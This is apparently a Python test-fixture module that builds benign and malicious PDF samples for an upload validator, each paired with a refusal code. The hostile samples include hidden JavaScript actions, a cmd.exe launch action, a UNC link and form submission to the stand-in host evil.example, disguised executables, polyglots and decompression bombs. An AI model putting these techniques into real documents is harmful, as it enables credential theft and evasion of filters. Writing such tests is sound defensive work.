"""PDFs made by hand, good and bad, one for each thing that an upload is judged by. Other apps' tests use them too."""

import io
import zipfile
import zlib
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream

A4 = (595.0, 842.0)


def saved(pdf: Pdf, **options: Any) -> bytes:
    """The bytes of a PDF, the same at each call."""
    target = io.BytesIO()
    pdf.save(target, deterministic_id=not options.get("encryption"), **options)
    return target.getvalue()


def blank(pages: int = 1, size: tuple[float, float] = A4) -> Pdf:
    pdf = Pdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=size)
    return pdf


@cache
def plain(pages: int = 1, size: tuple[float, float] = A4, text: str = "Contratto") -> bytes:
    """A PDF that anybody may sign, with a line of text on each page (another text makes another file)."""
    pdf = blank(pages, size)
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number, page in enumerate(pdf.pages, start=1):
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = Stream(pdf, f"BT /F1 18 Tf 72 720 Td ({text} {number}/{pages}) Tj ET".encode())
    return saved(pdf)


def encrypted_user() -> bytes:
    """Opens only with a password."""
    return saved(blank(), encryption=pikepdf.Encryption(owner="owner", user="user", R=6))


def encrypted_owner() -> bytes:
    """Opens for everybody, may be changed by nobody."""
    return saved(blank(), encryption=pikepdf.Encryption(owner="owner", user="", R=6))


def with_open_action(action: Dictionary) -> bytes:
    pdf = blank()
    pdf.Root.OpenAction = action
    return saved(pdf)


def javascript() -> bytes:
    return with_open_action(Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)")))


def javascript_names() -> bytes:
    """Script in the document's name tree, which runs at opening too."""
    pdf = blank()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(pdf, b"app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), script])))
    return saved(pdf)


def javascript_on_page() -> bytes:
    """Script that runs when a page is shown."""
    pdf = blank()
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    return saved(pdf)


def javascript_in_annotation() -> bytes:
    """Script behind a link, deep in a chain of actions."""
    pdf = blank()
    action = Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([Dictionary(S=Name.JavaScript, JS="x")]))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
    return saved(pdf)


def javascript_address() -> bytes:
    """A link whose address is a script, with a blank to fool the reader."""
    return with_open_action(Dictionary(S=Name.URI, URI=pikepdf.String(" java\tscript:app.alert(1)")))


def launch() -> bytes:
    return with_open_action(Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe")))


def remote() -> bytes:
    """Opens a file on another machine, which gives the reader's login away on Windows."""
    return with_open_action(
        Dictionary(S=Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\a.pdf"), D="x")
    )


def submit() -> bytes:
    return with_open_action(Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/")))


def embedded() -> bytes:
    pdf = blank()
    pdf.attachments["invoice.exe"] = b"MZ" + b"0" * 100
    return saved(pdf)


def multimedia() -> bytes:
    pdf = blank()
    movie = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    pdf.pages[0].Annots = Array([pdf.make_indirect(movie)])
    return saved(pdf)


def xfa() -> bytes:
    pdf = blank()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([]))
    return saved(pdf)


def external_content() -> bytes:
    """A page whose content lies in another file."""
    pdf = blank()
    stream = Stream(pdf, b"")
    stream.stream_dict.F = pikepdf.String("other.bin")
    pdf.pages[0].Contents = stream
    return saved(pdf)


def certified_no_changes() -> bytes:
    """Certified by its maker so that no further signature is allowed (DocMDP, permission 1)."""
    return saved(_certified(permission=1))


def certified_for_signing() -> bytes:
    """Certified by its maker, further signatures allowed (DocMDP, permission 2)."""
    return saved(_certified(permission=2))


def _certified(permission: int) -> Pdf:
    pdf = blank()
    limits = Dictionary(Type=Name.TransformParams, P=permission, V=Name("/1.2"))
    reference = Dictionary(Type=Name.SigRef, TransformMethod=Name.DocMDP, TransformParams=limits)
    signature = pdf.make_indirect(
        Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            SubFilter=Name("/ETSI.CAdES.detached"),
            ByteRange=Array([0, 0, 0, 0]),
            Contents=pikepdf.String(b"\0" * 32),
            Reference=Array([reference]),
        )
    )
    field = Dictionary(FT=Name.Sig, T=pikepdf.String("Certification"), V=signature)
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)
    pdf.Root.Perms = Dictionary(DocMDP=signature)
    return pdf


@cache
def bomb_contents() -> bytes:
    """200 KB that draw 200 MB: harmless as long as nobody unpacks them."""
    pdf = blank()
    pdf.pages[0].Contents = Stream(pdf, b"q Q " * (50 * 1024 * 1024))
    return saved(pdf, compress_streams=True)


@cache
def bomb_objects() -> bytes:
    """A small file whose table of objects unpacks to more than we allow, and no reader can avoid to unpack it."""
    packer = zlib.compressobj(1)
    blanks = b" " * 16 * 1024**2
    table = packer.compress(b"1 0 ") + b"".join(packer.compress(blanks) for _ in range(72)) + packer.flush()
    pieces = [b"%PDF-1.7\n"]
    objects = b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(table)
    at = len(pieces[0])
    pieces.append(objects + table + b"\nendstream endobj\n")
    start = sum(map(len, pieces))
    rows = b"\0\0\0\0\0\0" + b"\2" + (2).to_bytes(4, "big") + b"\0" + b"\1" + at.to_bytes(4, "big") + b"\0"
    rows += b"\1" + start.to_bytes(4, "big") + b"\0"
    head = b"3 0 obj<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    pieces.append(head + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start)
    return b"".join(pieces)


@cache
def many_pages(pages: int = 2001) -> bytes:
    return saved(blank(pages), object_stream_mode=pikepdf.ObjectStreamMode.generate)


@cache
def many_objects(count: int = 200_001) -> bytes:
    """More parts than any honest document has."""
    pdf = blank()
    pdf.Root.Parts = Array([pdf.make_indirect(Array([])) for _ in range(count)])
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def truncated() -> bytes:
    """An upload that broke off."""
    return plain()[:-200]


def not_pdf() -> bytes:
    return b"<html><script>alert(1)</script></html>"


def prefixed_polyglot() -> bytes:
    """A Windows program to Windows, a PDF to readers that search for its head."""
    return b"MZ" + b"A" * 600 + plain()


def huge_page() -> bytes:
    """A page of 14,400 by 14,400 units of 100 points: 508 m on each side."""
    pdf = blank(size=(14_400, 14_400))
    pdf.pages[0].obj.UserUnit = 100
    return saved(pdf)


def turned(rotation: int = 90, crop: tuple[float, ...] = (), unit: float = 1) -> bytes:
    """An A4 page with a rotation, a crop box and a unit of its own."""
    pdf = blank()
    pdf.pages[0].obj.Rotate = rotation
    if crop:
        pdf.pages[0].obj.CropBox = Array(list(crop))
    if unit != 1:
        pdf.pages[0].obj.UserUnit = unit
    return saved(pdf)


def by_hand(
    catalog: str = "", page: str = "/MediaBox[0 0 595 842]", *more: str, trailer: str = "", count: str = "1"
) -> bytes:
    """A PDF of one page, written sign by sign: what libraries refuse to write. Further objects begin at number 4."""
    objects = [f"<</Type/Catalog/Pages 2 0 R{catalog}>>", f"<</Type/Pages/Kids[3 0 R]/Count {count}>>"]
    objects += [f"<</Type/Page/Parent 2 0 R{page}>>", *more]
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(data))
        data += f"{number} 0 obj\n{content}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    head = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    tail = f"trailer\n<</Root 1 0 R/Size {len(objects) + 1}{trailer}>>\nstartxref\n{len(data)}\n%%EOF\n"
    return data + head.encode() + tail.encode()


def uri(address: str) -> bytes:
    """Opens an address; as text in a PDF, or in angle brackets as hex digits."""
    return by_hand(f"/OpenAction<</S/URI/URI{address if address.startswith('<') else f'({address})'}>>")


def javascript_in_odd_letters() -> bytes:
    """Names may be spelt by numbers, and stand elsewhere."""
    return by_hand(
        "/OpenAction<</#53 4 0 R/J#53 5 0 R>>",
        "/MediaBox[0 0 595 842]",
        "/Java#53cript",
        "(app.alert\\(1\\))",
    )


def javascript_in_field() -> bytes:
    """Script that runs when a key is pressed in a field."""
    action = "<</FT/Tx/T(a)/AA<</K<</S/JavaScript/JS(x)>>>>>>"
    return by_hand("/AcroForm<</Fields[4 0 R]>>", "/MediaBox[0 0 595 842]", action)


def javascript_in_bookmark() -> bytes:
    return by_hand("/Outlines<</First<</A<</S/JavaScript/JS(x)>>>>>>")


def javascript_in_tree() -> bytes:
    """Script in a branch of the document's name tree."""
    branch = "<</Names[(a)<</S/JavaScript/JS(x)>>]/Limits[(a)(a)]>>"
    return by_hand("/Names<</JavaScript<</Kids[4 0 R]>>>>", "/MediaBox[0 0 595 842]", branch)


def javascript_in_parts() -> bytes:
    """A harmless link, made a script by what all links begin with."""
    link = "/MediaBox[0 0 595 842]/Annots[<</Subtype/Link/A<</S/URI/URI(alert\\(1\\))>>>>]"
    return by_hand("/URI<</Base(javascript:)>>", link)


def another_document() -> bytes:
    return by_hand("/OpenAction<</S/Thread/F(other.pdf)/D 0>>")


def xfa_alone() -> bytes:
    """A dynamic form without a single ordinary field."""
    return by_hand("/AcroForm<</XFA 4 0 R>>", "/MediaBox[0 0 595 842]", "<</Length 0>>stream\n\nendstream")


def embedded_under_another_name() -> bytes:
    file = "<</Length 1>>stream\nx\nendstream"
    return by_hand("/AF[<</F(a)/EF<</Desktop 4 0 R>>>>]", "/MediaBox[0 0 595 842]", file)


def portfolio() -> bytes:
    return by_hand("/Collection<</View/D>>")


def encrypted_for_certificates() -> bytes:
    """Opens only for those whose certificates its maker named."""
    lock = "<</Filter/Adobe.PubSec/V 4/SubFilter/adbe.pkcs7.s5>>"
    return by_hand("", "/MediaBox[0 0 595 842]", lock, trailer="/Encrypt 4 0 R/ID[(a)(b)]")


@cache
def _zip() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("invoice.exe", "MZ")
    return file.getvalue()


def with_zip_behind() -> bytes:
    """A contract to readers of PDFs, an archive to everybody else."""
    return plain() + _zip()


def with_zip_inside() -> bytes:
    """The same, with the archive where no reader looks."""
    archive = _zip().decode("latin-1")
    stream = f"<</Length {len(archive)}>>stream\n{archive}\nendstream"
    return by_hand("", "/MediaBox[0 0 595 842]", stream)


def with_page_behind() -> bytes:
    return plain() + b"<html><script>alert(1)</script></html>"


def circular_pages() -> bytes:
    """A page tree that is its own branch."""
    return by_hand().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")


def without_a_size() -> bytes:
    return by_hand("", "")


def size_of_words() -> bytes:
    return by_hand("", "/MediaBox[(a) /b <</c 1>> null]")


def deep_nesting() -> bytes:
    return by_hand(f"/X {'[' * 100_000}{']' * 100_000}")


def unit_of_zero() -> bytes:
    return by_hand("", "/MediaBox[0 0 595 842]/UserUnit 0")


def other_head() -> bytes:
    return by_hand().replace(b"%PDF-1.7", b"%PDF-<a>")


# Every bad sample with the code that it is refused with.
BAD = {
    "encrypted_user": (encrypted_user, "encrypted"),
    "encrypted_owner": (encrypted_owner, "protected"),
    "javascript": (javascript, "scripted"),
    "javascript_names": (javascript_names, "scripted"),
    "javascript_on_page": (javascript_on_page, "scripted"),
    "javascript_in_annotation": (javascript_in_annotation, "scripted"),
    "javascript_address": (javascript_address, "scripted"),
    "javascript_in_odd_letters": (javascript_in_odd_letters, "scripted"),
    "javascript_in_field": (javascript_in_field, "scripted"),
    "javascript_in_bookmark": (javascript_in_bookmark, "scripted"),
    "javascript_in_tree": (javascript_in_tree, "scripted"),
    "javascript_in_parts": (javascript_in_parts, "scripted"),
    "launch": (launch, "launching"),
    "another_document": (another_document, "launching"),
    "remote": (remote, "launching"),
    "submit": (submit, "submitting"),
    "embedded": (embedded, "embedded_files"),
    "multimedia": (multimedia, "multimedia"),
    "xfa": (xfa, "form_xfa"),
    "external_content": (external_content, "external_content"),
    "certified_no_changes": (certified_no_changes, "certified"),
    "many_pages": (many_pages, "too_many_pages"),
    "many_objects": (many_objects, "too_many_objects"),
    "bomb_objects": (bomb_objects, "broken"),
    "truncated": (truncated, "broken"),
    "not_pdf": (not_pdf, "not_pdf"),
    "xfa_alone": (xfa_alone, "form_xfa"),
    "embedded_under_another_name": (embedded_under_another_name, "embedded_files"),
    "portfolio": (portfolio, "embedded_files"),
    "encrypted_for_certificates": (encrypted_for_certificates, "encrypted"),
    "with_zip_behind": (with_zip_behind, "two_kinds"),
    "with_zip_inside": (with_zip_inside, "two_kinds"),
    "with_page_behind": (with_page_behind, "two_kinds"),
    "circular_pages": (circular_pages, "broken"),
    "without_a_size": (without_a_size, "broken"),
    "size_of_words": (size_of_words, "broken"),
    "deep_nesting": (deep_nesting, "broken"),
    "unit_of_zero": (unit_of_zero, "page_size"),
    "other_head": (other_head, "broken"),
    "prefixed_polyglot": (prefixed_polyglot, "not_pdf"),
    "huge_page": (huge_page, "page_size"),
}
